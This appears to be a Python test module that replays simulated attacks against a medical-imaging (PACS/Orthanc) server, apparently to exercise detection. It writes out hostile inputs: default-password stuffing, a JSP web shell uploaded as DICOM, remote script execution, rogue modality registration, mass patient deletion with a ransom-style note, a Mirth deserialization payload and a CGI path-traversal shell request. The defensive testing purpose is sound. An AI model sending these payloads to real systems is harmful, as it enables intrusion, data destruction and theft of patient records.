"""D28 to D37: the web, and what comes to its doors."""

from __future__ import annotations

import json
import re

from tests.analyst.uploads import clean_ct, part10

from .means import (
    ORTHANC,
    Target,
    asked,
    posted,
    sent,
    studies,
)


def stuffed(target: Target) -> None:
    pairs = (("admin", "letmein"), ("root", "toor"), ("pacs", "pacs1"), ("user", "12345"), ("admin", "admin"))
    for pair in (*pairs, ("radiology", "radiology1")):
        asked(target, "GET", "/system", user=pair)


def mistyped(target: Target) -> None:
    asked(target, "GET", "/app/explorer.html")
    asked(target, "GET", "/app/explorer.html", user=("k.whitfield", "Sumer2026"))


def enumerated(target: Target) -> None:
    asked(target, "GET", "/dicom-web/studies?limit=1")
    asked(target, "GET", "/dicom-web/studies?includefield=all&limit=20")
    for path in ("/orthanc/", "/dcm4chee-arc/aets", "/wado?requestType=WADO", "/system"):
        asked(target, "GET", path)


def asked_for_one(target: Target) -> None:
    asked(target, "GET", "/dicom-web/studies?PatientID=P100200&limit=5")


def web_shell(target: Target) -> None:
    shell = b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    files = [("up.jsp", "application/dicom", shell), ("a.php", "text/x-php", b"<?php 1;")]
    posted(target, "/dicom-web/studies", files)


def stowed(target: Target) -> None:
    posted(target, "/dicom-web/studies", [("ct.dcm", "application/dicom", part10(clean_ct()))])


def abused(target: Target) -> None:
    asked(target, "POST", "/tools/execute-script", 'print(os.execute("id"))', ORTHANC)
    asked(target, "PUT", "/modalities/x", '["EVIL", "198.51.100.7", 4242]', ORTHANC)
    asked(target, "POST", "/tools/shutdown", "", ORTHANC)


def searched(target: Target) -> None:
    wanted = {"Level": "Study", "Query": {"PatientID": "P100200"}, "Expand": True}
    asked(target, "POST", "/tools/find", wanted, ORTHANC)


def wiped(target: Target) -> None:
    listed = json.loads(asked(target, "GET", "/patients?limit=4&since=0", user=ORTHANC).body)
    for patient in listed[:4]:
        asked(target, "DELETE", f"/patients/{patient}", user=ORTHANC)
    note = clean_ct()
    note.PatientName = "READ^ME"
    asked(target, "POST", "/instances", part10(note), ORTHANC)


def deleted_own(target: Target) -> None:
    """Somebody takes back what he sent."""
    answer = json.loads(asked(target, "POST", "/instances", part10(clean_ct()), ORTHANC).body)
    asked(target, "DELETE", f"/instances/{answer['ID']}", user=ORTHANC)


def hl7(target: Target) -> None:
    message = "MSH|^~\\&|LAB|X|ADT|Y|20260101||QRY^A19|1|P|2.3\rQRD|20260101|R|I|1|||1^RD|DOE^JOHN|DEM\r"
    sent(target, b"\x0b" + message.encode() + b"\x1c\r", wait=0.5)
    sent(target, b"\x0b" + message.encode() + b"\x1c\r", target.web, wait=0.5)


def pipes(target: Target) -> None:
    sent(target, b"a|b|c|d\r\n", wait=0.5)


def fhir(target: Target) -> None:
    for path in ("/fhir/metadata", "/fhir/Patient?_count=100", "/baseR4/Patient/1/$everything", "/Patient/$export"):
        asked(target, "GET", path)


def study_metadata(target: Target) -> None:
    study = studies(target, 1)[0]
    asked(target, "GET", f"/dicom-web/studies/{study}/series?limit=1")
    asked(target, "GET", "/dicom-web/studies?PatientID=P100200")


def mirth(target: Target) -> None:
    body = (
        "<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface></dynamic-proxy>"
    )
    headers = {"X_Requested_With": "OpenAPI", "Content_Type": "application/xml"}
    asked(target, "GET", "/api/server/version", X_Requested_With="OpenAPI")
    asked(target, "POST", "/api/users", body + "</sorted-set>", **headers)


def looked_for_mirth(target: Target) -> None:
    asked(target, "POST", "/api/studies", "<a/>", Content_Type="application/xml")


def sprayed(target: Target) -> None:
    for path in (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/actuator/health",
        "/boaform/admin/formLogin",
    ):
        asked(target, "GET", path)
    asked(target, "POST", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "echo;id", User_Agent="libredtail-http")


def robots(target: Target) -> None:
    for path in ("/", "/favicon.ico", "/robots.txt", "/sitemap.xml"):
        asked(target, "GET", path, User_Agent="Mozilla/5.0 zgrab/0.x")


def took_bait(target: Target) -> None:
    """Reads robots.txt as a map, and what lies there."""
    named = re.findall(r"(?m)^Disallow: (/\S+)", asked(target, "GET", "/robots.txt").body.decode("utf-8", "replace"))
    for path in named:
        page = asked(target, "GET", path).body.decode("utf-8", "replace")
        for name in re.findall(r'href="([\w%.-]+)"', page):
            asked(target, "GET", path + name)
